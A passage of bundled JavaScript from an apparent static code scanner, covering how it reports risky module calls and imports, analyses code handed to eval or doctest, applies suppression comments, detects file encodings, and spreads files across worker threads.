        depth === 0 && hops.some((h) => h.tracked) ? ` Resolved through ${hops.map((h) => `${"file" in h && h.file !== path2 ? `${h.file} ` : ""}line ${h.line} \`${h.text}\``).join(" \u2190 ")}.` : ""
      ].join("");
      for (const { spec, target, member } of rules.match(call2.path, call2.form, call2.passedTo !== void 0)) {
        called2.add(spec);
        const properties = { module: spec.module, member, target, language: rules.language, ...resolution, ...spec.custom ? { customRule: spec.custom.id } : {} };
        const key = `${call2.start}\0${call2.end}\0${spec.custom?.id ?? spec.category}`;
        if (seen.has(key)) continue;
        seen.add(key);
        if (spec.category === "code") {
          const examples = call2.code && "examples" in call2.code ? call2.code.examples : void 0;
          if (call2.code && !(examples && examplesJudged.has(examples.what))) out2.push(...this.evaluatedFindings(path2, range, callee, call2.code, grammar, depth, lines));
          if (examples) examplesJudged.add(examples.what);
          continue;
        }
        const finding = spec.custom ? { ...customBoundary.at(path2, range, spec.custom.message), severity: spec.custom.severity, category: spec.category } : RULE_OF_CATEGORY[spec.category].at(path2, range, callee, target);
        out2.push({ ...finding, message: finding.message + why, properties });
      }
    }
    for (const site of analysis.imports) {
      const range = lines.range(site.start, site.end);
      if (site.star) out2.push(starImport.at(path2, range, site.module));
      for (const spec of rules.specs) {
        if (!spec.reportImport || called2.has(spec)) continue;
        const matches = rules.language === "python" ? site.module === spec.module || site.module.startsWith(`${spec.module}.`) : site.module === spec.module;
        if (matches) out2.push({ ...boundaryImport.at(path2, range, spec.module), category: spec.category, properties: { module: spec.module, ...spec.custom ? { customRule: spec.custom.id } : {} } });
      }
    }
    return out2;
  }
  /**
   * What code handed to an evaluator does, reported at its call: each finding of the code, scanned as code of the
   * same language (JavaScript for TypeScript: `eval` runs JavaScript), or scan/dynamic-code when it cannot be read or
   * is nested deeper than MAX_CODE_DEPTH.
   */
  evaluatedFindings(path2, range, callee, code, grammar, depth, lines) {
    if ("unread" in code) return [dynamicCode.at(path2, range, callee, code.unread)];
    if (code.examples) return depth === 0 ? this.exampleFindings(path2, range, callee, code.texts[0], code.examples, lines) : [];
    if (depth >= MAX_CODE_DEPTH) return [dynamicCode.at(path2, range, callee, `code in code more than ${MAX_CODE_DEPTH} levels deep`)];
    const codeGrammar = grammar === "python" ? "python" : this.grammars.languages.javascript ? "javascript" : grammar;
    const found = /* @__PURE__ */ new Map();
    for (const text of code.texts) {
      for (const finding of this.codeFindings(text, codeGrammar, depth + 1)) {
        const message = `${finding.message} It runs in the code passed to \`${callee}\` (line ${finding.line} of that code).`;
        const { fix: _, ...rest } = finding;
        const key = `${finding.rule}\0${finding.message}`;
        if (!found.has(key)) found.set(key, { ...rest, file: path2, ...range, message, properties: { ...finding.properties, evaluator: callee, codeLine: finding.line } });
      }
    }
    return [...found.values()];
  }
  /**
   * What doctest runs from the file's docstrings (evaluators.ts docstringsCode), each finding placed at its example in
   * the file; the findings of the file's own code, scanned with them, are the file's already.
   */
  exampleFindings(path2, range, callee, text, examples, lines) {
    const found = /* @__PURE__ */ new Map();
    const placed2 = (line, column) => {
      const place = examples.lines[line - examples.fromLine];
      return place.exact ? place.at + column - 1 : place.at;
    };
    for (const finding of this.codeFindings(text, "python", 1)) {
      if (finding.line < examples.fromLine) continue;
      const start3 = placed2(finding.line, finding.column);
      const end = finding.endLine - examples.fromLine < examples.lines.length ? Math.max(start3, placed2(finding.endLine, finding.endColumn)) : start3;
      const { fix: _, ...rest } = finding;
      const at = lines.range(start3, end);
      const message = `${finding.message} It is ${examples.what}, which \`${callee}\` at line ${range.line} runs.`;
      const key = `${at.line}\0${at.column}\0${finding.rule}\0${finding.message}`;
      if (!found.has(key)) found.set(key, { ...rest, file: path2, ...at, message, properties: { ...finding.properties, evaluator: callee, evaluatorLine: range.line } });
    }
    return [...found.values()];
  }
  /** The boundary findings of code handed to an evaluator, parsed and analysed as a file of its own (no suppressions, no project). */
  codeFindings(source, grammar, depth) {
    const text = grammar === "python" ? commentLinesBlanked(source) : source;
    const limitMs = this.limitFor(text);
    const language = this.grammars.languages[grammar];
    this.grammars.parser.setLanguage(language);
    const tree = this.parse(text);
    if (!tree) return [dynamicCode.at(CODE_PATH, WHOLE_FILE, "code", `parsing it took over ${limitMs} ms`)];
    try {
      const rules = this.rules[languageOf(grammar)];
      const analysis = grammar === "python" ? analyzePython(tree, text, language, rules.filter, false, limitMs) : analyzeJavaScript(tree, text, language, grammar !== "javascript", rules.filter, false, limitMs);
      const lines = new LineIndex(text);
      const respelled = respelledText(text, grammar) === void 0 ? [] : respelledNames(tree, text, grammar).map(({ node, reads }) => respelledName.at(CODE_PATH, lines.range(node.startIndex, node.endIndex), hopText(text, { start: node.startIndex, end: node.endIndex, tracked: true }), hopText(reads, { start: 0, end: reads.length, tracked: true })));
      return [...respelled, ...this.boundaryFindings(CODE_PATH, analysis, rules, lines, text, grammar, depth)];
    } catch (e) {
      if (!(e instanceof QueryTimeout)) throw e;
      return [dynamicCode.at(CODE_PATH, WHOLE_FILE, "code", e.message)];
    } finally {
      tree.delete();
    }
  }
  /** The findings left once suppressions hid theirs; each suppression that hid something is added to `used`. */
  applySuppressions(path2, findings, suppressions, lines, used) {
    const targets = new Set(suppressions.map((s) => s.target));
    const hidden = /* @__PURE__ */ new Map();
    const kept = findings.filter((f) => {
      if (!SUPPRESSIBLE.has(f.rule) || !targets.has(f.line)) return true;
      let line = hidden.get(f.line);
      if (!line) hidden.set(f.line, line = { rules: /* @__PURE__ */ new Set(), resolutions: [] });
      line.rules.add(f.rule);
      line.resolutions.push(resolutionOf(f));
      return false;
    });
    suppressions.forEach((s) => {
      const range = lines.range(s.start, s.end);
      const line = hidden.get(s.target);
      if (line) used.push({ file: path2, ...range, marker: s.marker, target: s.target, rules: [...line.rules].sort(), resolutions: line.resolutions });
      else kept.push(unusedSuppression.at(path2, range, s.marker));
      if (this.config["require-reason"] && !s.reason) kept.push(suppressionWithoutReason.at(path2, range, s.marker));
    });
    return kept;
  }
  /** `scan.rules`: per-rule off or severity (custom rules by their own id too). */
  applySettings(findings) {
    return withRuleSettings(findings, this.config.rules);
  }
};
var HOP_TEXT = 80;
function hopText(text, hop2) {
  const newline = text.indexOf("\n", hop2.start);
  const line = text.slice(hop2.start, Math.min(hop2.end, newline < 0 ? hop2.end : newline, hop2.start + HOP_TEXT + 1)).replace(/\s+/g, " ").replace(/`/g, "'").trim();
  return line.length > HOP_TEXT ? `${line.slice(0, HOP_TEXT - 1)}\u2026` : line;
}
var projectKey = (path2) => `${path2}\0project`;
var KEPT_DOCUMENTS = 16;
var CLEAN_BASE_SPAN = 4096;
function movedRange(range, edit) {
  const before = (line, column, row, col) => line - 1 < row || line - 1 === row && column - 1 <= col;
  const { startPosition: start3, oldEndPosition: oldEnd, newEndPosition: newEnd } = edit;
  if (before(range.endLine, range.endColumn, start3.row, start3.column)) return { line: range.line, column: range.column, endLine: range.endLine, endColumn: range.endColumn };
  if (!before(oldEnd.row + 1, oldEnd.column + 1, range.line - 1, range.column - 1)) return void 0;
  const move = (line, column) => ({ line: line + newEnd.row - oldEnd.row, column: line - 1 === oldEnd.row ? column + newEnd.column - oldEnd.column : column });
  const a = move(range.line, range.column);
  const b = move(range.endLine, range.endColumn);
  return { line: a.line, column: a.column, endLine: b.line, endColumn: b.column };
}
function placer(path2, text) {
  let lines;
  return (start3, end) => ({ file: path2, ...(lines ??= new LineIndex(text)).range(start3, end), text: hopText(text, { start: start3, end, tracked: true }) });
}
function editBetween(before, after) {
  const max = Math.min(before.length, after.length);
  let start3 = 0;
  while (start3 + COMPARE_BLOCK <= max && before.slice(start3, start3 + COMPARE_BLOCK) === after.slice(start3, start3 + COMPARE_BLOCK)) start3 += COMPARE_BLOCK;
  while (start3 < max && before.charCodeAt(start3) === after.charCodeAt(start3)) start3++;
  let suffix = 0;
  while (suffix + COMPARE_BLOCK <= max - start3 && before.slice(before.length - suffix - COMPARE_BLOCK, before.length - suffix) === after.slice(after.length - suffix - COMPARE_BLOCK, after.length - suffix)) suffix += COMPARE_BLOCK;
  while (suffix < max - start3 && before.charCodeAt(before.length - 1 - suffix) === after.charCodeAt(after.length - 1 - suffix)) suffix++;
  return {
    startIndex: start3,
    oldEndIndex: before.length - suffix,
    newEndIndex: after.length - suffix,
    startPosition: pointAt(before, start3),
    oldEndPosition: pointAt(before, before.length - suffix),
    newEndPosition: pointAt(after, after.length - suffix)
  };
}
var COMPARE_BLOCK = 256;
function pointAt(text, offset) {
  let row = 0;
  let lineStart = 0;
  for (let i2 = text.indexOf("\n"); i2 >= 0 && i2 < offset; i2 = text.indexOf("\n", i2 + 1)) {
    row++;
    lineStart = i2 + 1;
  }
  return { row, column: offset - lineStart };
}
function countLines(text) {
  let n = 1;
  for (let i2 = text.indexOf("\n"); i2 >= 0; i2 = text.indexOf("\n", i2 + 1)) n++;
  return n;
}
function errorRange(tree, lines) {
  const cursor = tree.walk();
  try {
    for (; ; ) {
      const node = cursor.currentNode;
      if (node.isError || node.isMissing) return lines.range(node.startIndex, Math.max(node.endIndex, node.startIndex + 1));
      if (node.hasError && cursor.gotoFirstChild()) continue;
      while (!cursor.gotoNextSibling()) if (!cursor.gotoParent()) return WHOLE_FILE;
    }
  } finally {
    cursor.delete();
  }
}
var readBuffer = Buffer.allocUnsafe(64 * 1024);
var KEPT_READ_BUFFER = 1024 * 1024;
var SOURCE_HEAD_BYTES = 512;
var CODING = /^[ \t\f]*#.*?coding[:=][ \t]*([-\w.]+)/;
var UTF8_NAMES = /^(?:utf-?8(?:-.*)?|(?:us-)?ascii)$/;
var LATIN1_NAMES = /^(?:latin-?1|iso-?8859-1|l1|iso-latin-1|8859|cp819|latin)(?:-.*)?$/;
function sourceEncoding(path2, bytes, length) {
  const grammar = grammarOf(path2);
  if (grammar !== "python" && (grammar !== void 0 || !extensionless(path2))) return "utf8";
  const head = bytes.toString("latin1", 0, Math.min(length, SOURCE_HEAD_BYTES));
  if (grammar !== "python" && scriptGrammar(head) !== "python") return "utf8";
  const [first = "", second = ""] = head.replace(/^\xef\xbb\xbf/, "").split(/\r\n|\r|\n/, 2);
  const declared = CODING.exec(first)?.[1] ?? (/^[ \t\f]*(?:#.*)?$/.test(first) ? CODING.exec(second)?.[1] : void 0);
  if (declared === void 0) return "utf8";
  const name2 = declared.toLowerCase().replaceAll("_", "-");
  if (UTF8_NAMES.test(name2)) return "utf8";
  if (LATIN1_NAMES.test(name2)) return "latin1";
  return { skipped: `source encoding "${declared}" (its PEP 263 declaration) is not read by the scan: write the file as UTF-8` };
}
var LFS_POINTER = /^version https:\/\/(?:git-lfs|hawser)\.github\.com\/spec\/v1\r?\n/;
var LFS_POINTER_BYTES = 1024;
var LFS_SKIPPED = "it is a Git LFS pointer: the checkout holds no code, and a checkout that fetches LFS content brings code the scan never read";
function readSource(absolutePath, maxBytes) {
  let fd;
  try {
    fd = (0, import_node_fs2.openSync)(absolutePath, "r");
  } catch (e) {
    return { skipped: `unreadable (${e.code ?? e.message})` };
  }
  try {
    const size = (0, import_node_fs2.fstatSync)(fd).size;
    if (size > maxBytes) return { skipped: `${size} bytes is over the ${maxBytes}-byte limit (limits.max-file-bytes)` };
    if (size > readBuffer.length && size <= KEPT_READ_BUFFER) readBuffer = Buffer.allocUnsafe(KEPT_READ_BUFFER);
    const buffer = size <= readBuffer.length ? readBuffer : Buffer.allocUnsafe(size);
    let read = 0;
    while (read < size) {
      const n = (0, import_node_fs2.readSync)(fd, buffer, read, size - read, read);
      if (n === 0) break;
      read += n;
    }
    if (buffer.subarray(0, Math.min(read, 8192)).includes(0)) return { skipped: "binary content (NUL bytes)" };
    if (read <= LFS_POINTER_BYTES && LFS_POINTER.test(buffer.toString("latin1", 0, read))) return { skipped: LFS_SKIPPED };
    const encoding = sourceEncoding(absolutePath, buffer, read);
    if (typeof encoding !== "string") return encoding;
    const text = buffer.toString(encoding, 0, read);
    return text.charCodeAt(0) === 65279 ? text.slice(1) : text;
  } catch (e) {
    return { skipped: `unreadable (${e.code ?? e.message})` };
  } finally {
    (0, import_node_fs2.closeSync)(fd);
  }
}

// core/scan/work-queue.ts
var REPORT_MS = 50;
var REPORT_FILES = 32;
var JOIN_MIN_FILES = 64;
var WorkQueue = class _WorkQueue {
  constructor(data) {
    this.data = data;
    this.cells = new Int32Array(data.cells);
  }
  data;
  cells;
  /** The queue of `files` for `threads` threads; `keptBy`: the thread keeping a file's tree. */
  static of(files, threads, grammarOfFile = grammarOf, keptBy = () => void 0) {
    const byKey = /* @__PURE__ */ new Map();
    files.forEach((file, i2) => {
      const [grammar, thread] = [grammarOfFile(file), keptBy(file)];
      const key = `${grammar}\0${thread}`;
      const group = byKey.get(key);
      if (group) group.items.push(i2);
      else byKey.set(key, { grammar, ...thread === void 0 ? {} : { keptBy: thread }, items: [i2] });
    });
    const groups = [...byKey.values()];
    return new _WorkQueue({ groups, threads, cells: new SharedArrayBuffer(Int32Array.BYTES_PER_ELEMENT * (2 * groups.length + 1)) });
  }
  /** Files no thread has claimed yet. */
  get left() {
    return this.data.groups.reduce((sum, _, g) => sum + this.leftIn(g), 0);
  }
  /** Stop handing out files (the pass was cancelled or failed): every thread's next claim is none. */
  stop() {
    Atomics.store(this.cells, this.cells.length - 1, 1);
  }
  get stopped() {
    return Atomics.load(this.cells, this.cells.length - 1) === 1;
  }
  /** The next file for `claimer`, or undefined when it has none to take (none left, stopped, or only groups other threads finish). */
  claim(claimer) {
    if (this.stopped) return void 0;
    const { groups } = this.data;
    let group = claimer.on?.queue === this ? claimer.on.group : void 0;
    for (; ; ) {
      if (group !== void 0) {
        const item = groups[group].items[Atomics.add(this.cells, 2 * group, 1)];
        if (item !== void 0) return { grammar: groups[group].grammar, item };
        Atomics.sub(this.cells, 2 * group + 1, 1);
        claimer.on = void 0;
      }
      group = this.choose(claimer);
      if (group === void 0) return void 0;
      Atomics.add(this.cells, 2 * group + 1, 1);
      claimer.on = { queue: this, group };
      claimer.grammars.add(groups[group].grammar);
    }
  }
  leftIn(group) {
    return Math.max(0, this.data.groups[group].items.length - Atomics.load(this.cells, 2 * group));
  }
  choose(claimer) {
    const open = this.data.groups.map((_, g) => g).filter((g) => this.leftIn(g) > 0);
    const takers = (g) => Atomics.load(this.cells, 2 * g + 1);
    const largest = (candidates) => candidates.reduce((best, g) => best === void 0 || this.leftIn(g) > this.leftIn(best) ? g : best, void 0);
    const { groups } = this.data;
    const known = (g) => claimer.grammars.has(groups[g].grammar);
    const keptElsewhere = (g) => groups[g].keptBy !== void 0 && groups[g].keptBy !== claimer.index;
    return open.find((g) => groups[g].keptBy === claimer.index) ?? open.find((g) => known(g) && !keptElsewhere(g)) ?? open.find(known) ?? largest(open.filter((g) => takers(g) === 0 && !keptElsewhere(g))) ?? largest(open.filter((g) => this.leftIn(g) > JOIN_MIN_FILES * this.data.threads));
  }
};

// core/scan/worker.ts
var post = (reply) => import_node_worker_threads.parentPort.postMessage(reply);
var given = import_node_worker_threads.workerData;
var runtime2 = loadGrammars([], given.wasmDir);
var scan;
var project;
var passes = Promise.resolve();
if ("root" in given) scan = start2(given);
import_node_worker_threads.parentPort.on("message", (message) => {
  if (!scan) {
    scan = start2(message);
    return;
  }
  const started = scan;
  passes = passes.then(() => pass(started, message));
});
function start2(init2) {
  const scanner = runtime2.then(() => Scanner.create({ config: init2.config, maxBytes: init2.maxBytes, grammars: [], projectPrefixes: init2.projectPrefixes, keepPassTrees: true }));
  scanner.catch((e) => post({ id: -1, error: e.stack ?? String(e) }));
  return { init: init2, self: { index: init2.index, grammars: /* @__PURE__ */ new Set() }, scanner };
}
async function pass({ init: init2, self: self2, scanner }, { id, files, queue: data, project: table }) {
  try {
    if (table) project = new ProjectSymbols(table.symbols, table.aliases, table.files);
    const s = await scanner;
    const queue = new WorkQueue(data);
    let grammar;
    let scanned = [];
    let posted = performance.now();
    for (let claim = queue.claim(self2); claim; claim = queue.claim(self2)) {
      if (claim.grammar && claim.grammar !== grammar) await loadGrammars([grammar = claim.grammar]);
      const file = files[claim.item];
      scanned.push([claim.item, s.scanFile((0, import_node_path5.join)(init2.root, file), file, project, claim.grammar)]);
      if (scanned.length >= REPORT_FILES || performance.now() - posted >= REPORT_MS) {
        post({ id, results: scanned });
        scanned = [];
        posted = performance.now();
      }
    }
    post({ id, results: scanned, done: true });
  } catch (e) {
    post({ id, error: e.stack ?? String(e) });
  }
}
